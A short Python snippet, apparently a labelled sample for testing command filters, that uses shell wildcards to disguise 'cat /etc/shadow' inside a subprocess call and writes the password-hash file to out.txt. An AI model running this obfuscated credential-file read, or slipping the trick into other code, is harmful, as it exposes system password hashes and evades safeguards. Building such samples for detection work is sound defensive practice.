# disguised-command: a wildcard path to the shell inside a subprocess list
import subprocess

subprocess.call(["/bin/sh", "-c", "/???/?at /e??/sh?d?w > ./out.txt"])
